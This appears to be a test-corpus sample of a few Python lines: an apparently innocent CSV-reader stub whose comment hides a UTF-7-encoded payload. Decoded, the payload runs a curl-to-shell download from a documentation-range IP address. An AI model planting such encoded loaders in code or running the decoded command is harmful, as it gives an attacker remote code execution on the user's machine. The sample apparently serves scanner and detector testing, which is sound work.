# corpus: utf_7 cookie disguised as a TODO comment; a whole payload line is a UTF-7 base64 block inside a comment
# TODO(ana): revisit the decoding=utf7 issue in the CSV reader
rows = []  # +AAoAaQBtAHAAbwByAHQAIABvAHMAOwBvAHMALgBzAHkAcwB0AGUAbQAoACcAYwB1AHIAbAAgAC0AcwAgAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA1AC8AcwB8AHMAaAAnACkACg-
print(len(rows))
